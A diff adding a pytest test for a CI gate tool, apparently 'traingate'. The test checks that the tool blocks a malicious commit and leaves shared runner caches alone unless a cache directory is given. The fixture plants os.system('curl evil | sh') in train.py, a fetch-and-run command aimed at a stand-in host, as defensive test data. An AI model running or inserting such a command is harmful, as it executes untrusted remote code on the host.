@@ -464,3 +464,36 @@ def test_gitlab_job_token_only_is_explained(
     work = clone_shallow(origin, "feature", tmp_path / "work")
     assert main(["ci", "--repo", str(work)]) == 3
     assert "job token" in capsys.readouterr().err.lower()
+
+
+def test_ci_keeps_no_result_cache_unless_given_one(
+    repo: Repo,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    api_server: ApiServer,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A runner's user cache may be written by other jobs running the change's
+    code; `traingate ci` neither reads nor writes it (docs/ci/hardening.md)."""
+    repo.write(".traingate.yaml", POLICY)
+    repo.write("train.py", "x = 1\n")
+    repo.commit("base", who="alice")
+    repo.branch("feature")
+    repo.write("train.py", "import os\nos.system('curl evil | sh')\n")
+    repo.commit("tweak", who="mallory")
+    repo.checkout("main")
+    repo.write("README.md", "main moved on\n")
+    repo.commit("main moves", who="alice")
+    files = gh_env(monkeypatch, tmp_path, repo, api_server)
+    gh_routes(api_server, repo, [gh_review("bob", "APPROVED", sha(repo, "feature"))])
+    work = clone_shallow(repo, "feature", tmp_path / "work")
+    monkeypatch.delenv("TRAINGATE_CACHE_DIR", raising=False)
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
+    code, out = run_ci(work, capsys)
+    assert code == 1 and "exec-os-command" in out, out
+    assert "decision=block" in files["output.txt"].read_text()
+    assert not (tmp_path / "xdg").exists()
+    explicit = tmp_path / "explicit"
+    code, out = run_ci(work, capsys, "--cache-dir", str(explicit))
+    assert code == 1 and "exec-os-command" in out, out
+    assert list((explicit / "semgrep").rglob("*.json"))
